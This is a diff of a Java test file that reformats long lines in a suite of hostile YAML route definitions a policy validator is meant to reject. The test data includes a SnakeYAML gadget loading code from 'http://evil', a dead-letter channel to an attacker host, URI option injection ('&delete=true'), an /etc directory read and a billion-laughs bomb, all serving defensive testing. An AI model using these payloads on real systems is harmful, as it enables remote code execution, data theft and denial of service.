@@ -71,12 +71,18 @@ class RoutePolicyTest {
                 goodFull(),
                 mailbox("'{{postbag.mail.host}}'", "u", "{{postbag.mail.password}}", "{{postbag.mail.folder:INBOX}}"),
                 mailbox("a.mail.example.org", "u", "{{secret:a.b_c-D1}}", "Entwürfe/2026"),
-                full("mailbox:imaps://imap.example.org:993", "password: RAW({{secret:x}})", "bean: {ref: mailArrivals, method: receive}"),
+                full(
+                        "mailbox:imaps://imap.example.org:993",
+                        "password: RAW({{secret:x}})",
+                        "bean: {ref: mailArrivals, method: receive}"),
                 full(
                         "file",
                         "{directoryName: '{{postbag.data}}/in/more', noop: true, idempotent: false, exclude: '(?i)\\..*|~.*|.*\\.(part|partial|filepart|tmp|temp|crdownload|camelLock)'}",
                         "setProperty: {name: profile, expression: {constant: {expression: contact-centre}}}"),
-                full("direct:more", "{}", "bean: {ref: formArrivals, method: \"arrivals(${body}, 'second-mailbox')\"}"));
+                full(
+                        "direct:more",
+                        "{}",
+                        "bean: {ref: formArrivals, method: \"arrivals(${body}, 'second-mailbox')\"}"));
     }
 
     @ParameterizedTest
@@ -122,18 +128,34 @@ class RoutePolicyTest {
                 "dataFormats:\n    - json: {}",
                 "templatedRoute ", // with a space behind
                 "templаtedRoute")) { // with a Cyrillic letter
-            add(attacks, "an entry " + entry.lines().findFirst().orElse(""), "- " + entry + (entry.contains("\n") ? "\n" : ": {}\n"));
-            add(attacks, "a second entry " + entry.lines().findFirst().orElse(""), good() + "- " + entry + (entry.contains("\n") ? "\n" : ": {}\n"));
+            add(
+                    attacks,
+                    "an entry " + entry.lines().findFirst().orElse(""),
+                    "- " + entry + (entry.contains("\n") ? "\n" : ": {}\n"));
+            add(
+                    attacks,
+                    "a second entry " + entry.lines().findFirst().orElse(""),
+                    good() + "- " + entry + (entry.contains("\n") ? "\n" : ": {}\n"));
         }
-        add(attacks, "beans beside the parameters", good() + "    beans:\n      - name: x\n        type: java.io.File\n");
+        add(
+                attacks,
+                "beans beside the parameters",
+                good() + "    beans:\n      - name: x\n        type: java.io.File\n");
         add(attacks, "another route's id", good().replace("routeId: second-mailbox", "routeId: enquiries-mailbox"));
         add(attacks, "no id", good().replace("    routeId: second-mailbox\n", ""));
         add(attacks, "a prefix to ids", good() + "    prefixId: x\n");
-        add(attacks, "a connector that isn't there", good().replace("routeTemplateRef: email", "routeTemplateRef: exec"));
+        add(
+                attacks,
+                "a connector that isn't there",
+                good().replace("routeTemplateRef: email", "routeTemplateRef: exec"));
         add(attacks, "a connector by its kebab name", good().replace("routeTemplateRef", "route-template-ref"));
         add(attacks, "a parameter that the connector hasn't", good().replace("name: folder", "name: authenticator"));
         add(attacks, "a parameter twice", good() + "      - name: host\n        value: evil.example.com\n");
-        add(attacks, "an entry beside name and value", good().replace("value: INBOX", "value: INBOX").replace("  - name: folder\n", "  - name: folder\n        type: x\n"));
+        add(
+                attacks,
+                "an entry beside name and value",
+                good().replace("value: INBOX", "value: INBOX")
+                        .replace("  - name: folder\n", "  - name: folder\n        type: x\n"));
         add(attacks, "a value that is a mapping", good().replace("value: \"INBOX\"", "value: {ref: x}"));
         add(attacks, "a value that is a list", good().replace("value: \"INBOX\"", "value: [a, b]"));
     }
@@ -303,7 +325,10 @@ class RoutePolicyTest {
                 "delay: '1000&delete=true'",
                 "runLoggingLevel: TRACE",
                 "username: 'RAW(x)&delete=true&y=RAW(z)'")) {
-            add(attacks, "the option " + option, full("mailbox:imaps://imap.example.org:993", option, "bean: {ref: mailArrivals, method: receive}"));
+            add(
+                    attacks,
+                    "the option " + option,
+                    full("mailbox:imaps://imap.example.org:993", option, "bean: {ref: mailArrivals, method: receive}"));
         }
         for (var option : List.of(
                 "{directoryName: /etc, noop: true, idempotent: false}",
@@ -384,23 +409,45 @@ class RoutePolicyTest {
                 "log: '{{env:PATH}}'")) {
             add(attacks, "the step " + step, full("timer:tick", "period: 1000", step));
         }
-        add(attacks, "a dead letter channel", goodFull().replace("    from:", "    errorHandler: {deadLetterChannel: {deadLetterUri: 'http://evil'}}\n    from:"));
-        add(attacks, "a shared configuration", goodFull().replace("    from:", "    routeConfigurationId: other\n    from:"));
+        add(
+                attacks,
+                "a dead letter channel",
+                goodFull()
+                        .replace(
+                                "    from:",
+                                "    errorHandler: {deadLetterChannel: {deadLetterUri: 'http://evil'}}\n    from:"));
+        add(
+                attacks,
+                "a shared configuration",
+                goodFull().replace("    from:", "    routeConfigurationId: other\n    from:"));
         add(attacks, "a route policy", goodFull().replace("    from:", "    routePolicy: '#bean:x'\n    from:"));
-        add(attacks, "a start of its own", goodFull().replace("    from:", "    autoStartup: '{{env:PATH}}'\n    from:"));
+        add(
+                attacks,
+                "a start of its own",
+                goodFull().replace("    from:", "    autoStartup: '{{env:PATH}}'\n    from:"));
         add(attacks, "tracing switched on", goodFull().replace("    from:", "    trace: true\n    from:"));
     }
 
     /** What YAML itself can do. */
     private static void yaml(List<Arguments> attacks) {
-        add(attacks, "a tag that names a class", "- !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil\"]]\n");
+        add(
+                attacks,
+                "a tag that names a class",
+                "- !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil\"]]\n");
         add(attacks, "a tag of one's own", good().replace("value: \"INBOX\"", "value: !x INBOX"));
         add(attacks, "a tag for text", good().replace("value: \"INBOX\"", "value: !!str INBOX"));
         add(attacks, "an anchor", good().replace("value: \"INBOX\"", "value: &a INBOX"));
-        add(attacks, "an alias", good().replace("value: \"INBOX\"", "value: &a INBOX").replace("value: second@example.org", "value: *a"));
+        add(
+                attacks,
+                "an alias",
+                good().replace("value: \"INBOX\"", "value: &a INBOX")
+                        .replace("value: second@example.org", "value: *a"));
         add(attacks, "a billion laughs", "a: &a [x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: [*c,*c,*c]\n");
         add(attacks, "an alias of itself", "- &a [*a]\n");
-        add(attacks, "a merge key", good().replace("      - name: folder\n", "      - <<: {name: host}\n        name: folder\n"));
+        add(
+                attacks,
+                "a merge key",
+                good().replace("      - name: folder\n", "      - <<: {name: host}\n        name: folder\n"));
         add(attacks, "the same key twice", good() + "    routeId: second-mailbox\n");
         add(attacks, "the same key twice, once quoted", good() + "    \"routeId\": second-mailbox\n");
         add(attacks, "a second document", good() + "---\n- beans: []\n");
